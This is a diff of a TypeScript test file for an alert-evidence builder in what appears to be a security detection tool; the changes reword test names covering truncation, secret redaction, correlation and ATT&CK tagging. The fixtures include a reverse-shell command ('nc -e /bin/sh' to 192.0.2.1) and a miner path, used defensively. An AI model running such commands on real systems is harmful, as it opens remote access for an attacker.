@@ -7,7 +7,7 @@ import { hit } from './samples.ts';
 const evidence = (of: Parameters<typeof hit>[0], redact = true) => evidenceOf(hit(of), 'T', { redact });
 
 describe('evidenceOf', () => {
-  it('cuts a command line after 2 KB, between characters, and says so', () => {
+  it('truncates a command line after 2 KB, between characters, and marks the truncation', () => {
     const CommandLine = `${'x'.repeat(2_047)}é${'y'.repeat(7_000)}`;
     const { subject, details } = evidence({ payload: { CommandLine } });
     assert.equal(subject.CommandLine, 'x'.repeat(2_047));
@@ -16,12 +16,12 @@ describe('evidenceOf', () => {
     assert.deepEqual([whole.subject.CommandLine, whole.details], ['é'.repeat(1_024), {}]);
   });
 
-  it('redacts before it cuts, so that no beginning of a secret is left', () => {
+  it('redacts before truncation, so that no part of a secret remains', () => {
     const CommandLine = `app ${'x'.repeat(2_030)} --password ${'q'.repeat(500)}`;
     assert.ok(!String(evidence({ payload: { CommandLine } }).subject.CommandLine).includes('q'));
   });
 
-  it('redacts the parent and the view that matched, too, unless told otherwise', () => {
+  it('redacts the parent and the matching view as well, unless disabled', () => {
     const of = {
       payload: { CommandLine: 'a --token abc' },
       fields: { CommandLine: 'a --token abc', ParentCommandLine: 'mysql -pabc', ParentImage: '/bin/mysql' },
@@ -37,14 +37,14 @@ describe('evidenceOf', () => {
     );
   });
 
-  it('says of a correlation how many events it had, and which', () => {
+  it("reports the number and the ids of a correlation's events", () => {
     const ids = Array.from({ length: 20 }, (_, n) => `e${n}`);
     const { eventIds, details } = evidence({ count: 64, ids, cut: true, eventIds: ['last'] });
     assert.deepEqual([eventIds.length, eventIds.at(-1)], [16, 'e19']);
     assert.deepEqual(details, { CorrelatedEvents: '64', JudgedInPart: 'true' });
   });
 
-  it('names the trusted actor and up to three ancestors, and lowers the severity by one level', () => {
+  it('reports the trusted actor and up to three ancestors, and lowers the severity by one level', () => {
     const ancestors = ['/usr/bin/dash', '/usr/bin/dpkg', '/usr/bin/apt-get', '/usr/bin/bash'];
     const { severity, during, details } = evidence({ during: 'dpkg', ancestors });
     assert.deepEqual([severity, during], ['medium', 'dpkg']);
@@ -52,7 +52,7 @@ describe('evidenceOf', () => {
     assert.equal(evidence({ rule: { level: 'informational' }, during: 'dpkg' }).severity, 'informational');
   });
 
-  it('takes at most 4 KB of JSON for all strings, shortens the longest first, and marks them', () => {
+  it('limits all strings to 4 KB of JSON, truncates the longest first, and marks them', () => {
     const hostile = '\x01'.repeat(2_000);
     const { subject, details, ...others } = evidence({
       payload: { CommandLine: hostile, Executable: '/usr/bin/true', UserName: 'eve', CurrentDirectory: '/home/eve' },
@@ -70,13 +70,13 @@ describe('evidenceOf', () => {
     assert.match(String(subject.CommandLine), /^.{100,2000}$/s);
   });
 
-  it('keeps what identifies an alert among any number of long strings', () => {
+  it('keeps the identifying fields with any number of long strings', () => {
     const many = Object.fromEntries(Array.from({ length: 60 }, (_, n) => [`F${n}`, '"'.repeat(500)]));
     const { subject } = evidence({ payload: { ExtraDetails: many, UserId: '7', RemoteAddress: '192.0.2.1' } });
     assert.deepEqual([subject.UserId, subject.RemoteAddress, subject.Executable], ['7', '192.0.2.1', '/tmp/xmrig']);
   });
 
-  it('repeats no line that the command line shows already', () => {
+  it('omits lines that the command line already contains', () => {
     const line = `sh -c 'nc -e /bin/sh 192.0.2.1 1'`;
     const view = { Image: '/bin/nc', CommandLine: 'nc -e /bin/sh 192.0.2.1 1' };
     const matched = (CommandLine: string) => evidence({ fields: { CommandLine }, view }).details.MatchedCommandLine;
@@ -86,7 +86,7 @@ describe('evidenceOf', () => {
     );
   });
 
-  it('names the selection, its techniques, and its tactics or those of the rule', () => {
+  it('reports the selection, its techniques, and its tactics or those of the rule', () => {
     const rule = {
       tags: ['attack.persistence', 'attack.t1098.004'],
       selectionTags: { cron: ['attack.t1053.003'], sudoers: ['attack.privilege-escalation', 'attack.t1548.003'] },
@@ -101,12 +101,12 @@ describe('evidenceOf', () => {
     assert.deepEqual(of(), [undefined, 'persistence', 'T1098.004']);
   });
 
-  it('says what to do also for a rule that does not', () => {
+  it('has a default remediation', () => {
     const { remediation: _, ...rule } = hit().rule;
     assert.match(evidenceOf({ ...hit(), rule }, 'T', { redact: true }).remediation, /./);
   });
 
-  it('keeps no text that one of its own was cut out of, and of a trimmed command line no more than that', () => {
+  it('releases the strings that its own were cut out of', () => {
     const partOf = (length: number, part: number) => 'x'.repeat(length).slice(0, part);
     const kept: unknown[] = [];
     const before = heap();
